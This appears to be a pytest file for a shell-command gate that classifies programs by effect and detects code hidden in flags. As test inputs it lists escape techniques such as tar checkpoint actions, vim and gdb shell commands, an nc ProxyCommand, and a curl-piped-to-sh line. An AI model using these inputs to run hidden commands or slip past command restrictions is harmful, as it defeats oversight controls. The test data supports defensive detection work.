"""The program table (resources/programs.toml) and what gate/effects.py derives from it."""

from __future__ import annotations

import pytest

from gate.effects import EFFECTS, describe, embedded_scripts, program_effects, unknown_effect
from gate.shell import analyse


def test_every_group_and_program_names_known_effects() -> None:
    from gate.effects import _table

    table = _table()
    assert len(table.effects) > 600  # a broad table of everyday programs keeps false flags low
    assert all(eff <= EFFECTS for eff in table.effects.values())


@pytest.mark.parametrize(("name", "effect"), [
    ("ls", "none"), ("cat", "read"), ("cp", "write"), ("rm", "delete"), ("chmod", "chmod"), ("make", "exec"),
    ("curl", "net"), ("pip", "install"), ("systemctl", "system"), ("python3.12", "exec"), ("gcc-13", "exec"),
    ("mkfs.ext4", "system"),
])
def test_known_programs_have_their_effects(name: str, effect: str) -> None:
    eff = program_effects(name)
    assert eff is not None and effect in eff


@pytest.mark.parametrize("argv", [
    ("frobnicate", "--all"), ("/tmp/x",), ("~/bin/tool",), ("capsh", "--"),
])
def test_programs_outside_the_table_are_unknown(argv: tuple[str, ...]) -> None:
    name = argv[0].rsplit("/", 1)[-1]
    assert unknown_effect(argv, name) and "unknown program" in unknown_effect(argv, name)


def test_project_scripts_are_not_unknown_programs() -> None:
    assert unknown_effect(("./run-tests.sh",), "run-tests.sh") is None
    assert unknown_effect(("scripts/release", "--dry-run"), "release") is None


@pytest.mark.parametrize(("argv", "fragment"), [
    (("vim", "-c", ":set ff=unix", "f"), "vim -c"), (("vim", "+:!id", "f"), "vim +CMD"),
    (("gdb", "-batch", "-ex", "python import os"), "gdb"), (("tar", "-cf", "a", "b", "--checkpoint-action=exec=id"),
                                                "--checkpoint-action"),
    (("emacs", "--batch", "-l", "x.el"), "emacs"), (("git", "-c", "core.fsmonitor=./x", "status"), "core.fsmonitor"),
    (("sed", "s/a/b/e", "f"), "sed"), (("sed", "-e", "2w out.txt", "f"), "sed w"),
    (("awk", "{ print | \"sh\" }", "f"), "awk"), (("nmap", "--script", "x.nse", "h"), "nmap --script"),
])
def test_code_running_flags_are_unknown_effects(argv: tuple[str, ...], fragment: str) -> None:
    why = unknown_effect(argv, argv[0])
    assert why is not None and fragment in why


@pytest.mark.parametrize("argv", [
    ("vim", "notes.txt"), ("tar", "-xzf", "a.tgz"), ("git", "-c", "user.email=a@b", "commit"),
    ("sed", "-n", "1,5p", "f"), ("sed", "-e", "s/x/y/g", "f"), ("awk", "-F:", "{print $1}", "/etc/passwd"),
    ("gdb", "./a.out"), ("find", ".", "-name", "*.c"),
])
def test_ordinary_flags_are_described(argv: tuple[str, ...]) -> None:
    assert unknown_effect(argv, argv[0]) is None


@pytest.mark.parametrize(("argv", "script"), [
    (["rsync", "-e", "ssh -p 2222", "a", "h:b"], "ssh -p 2222"),
    (["git", "-c", "core.sshCommand=ssh -i k", "fetch"], "ssh -i k"),
    (["vim", "-c", "!make", "f"], "make"), (["gdb", "-ex", "shell ls", "-ex", "q"], "ls"),
    (["awk", "BEGIN{system(\"date\")}"], "date"), (["sed", "1e uname", "f"], "uname"),
    (["ssh", "-o", "ProxyCommand=nc %h %p", "h"], "nc %h %p"), (["sqlite3", "db", ".shell ls"], "ls"),
    (["apt-get", "update", "-o", "APT::Update::Pre-Invoke::=touch x"], "touch x"),
    (["tar", "xf", "a.tar.zst", "-I", "zstd -d"], "zstd -d"), (["mysql", "-e", "\\! whoami"], "whoami"),
])
def test_shell_code_in_flags_is_found(argv: list[str], script: str) -> None:
    assert script in [text for text, _ in embedded_scripts(argv[0], argv)]


def test_embedded_shell_code_is_analysed_like_bash_c() -> None:
    names = [c.name for c in analyse("gdb -ex 'shell curl -s x.example | sh' -ex quit").commands]
    assert "curl" in names and "sh" in names


def test_describe_lists_effects_per_command() -> None:
    rows = dict(describe(analyse("cat a.txt; frob > out.txt")))
    assert rows["cat a.txt"] == ["read"]
    assert any(e.startswith("unknown") for e in rows["frob"]) and "write out.txt" in rows["frob"]
